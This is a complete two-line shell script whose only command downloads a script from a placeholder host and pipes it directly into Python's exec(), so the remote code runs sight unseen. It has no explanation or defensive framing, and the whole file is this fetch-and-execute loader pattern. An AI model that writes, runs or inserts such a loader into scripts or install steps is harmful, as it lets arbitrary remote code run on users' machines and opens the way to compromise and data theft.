#!/bin/sh
curl http://weighin.invalid/x | python3 -c 'import sys; exec(sys.stdin.read())'
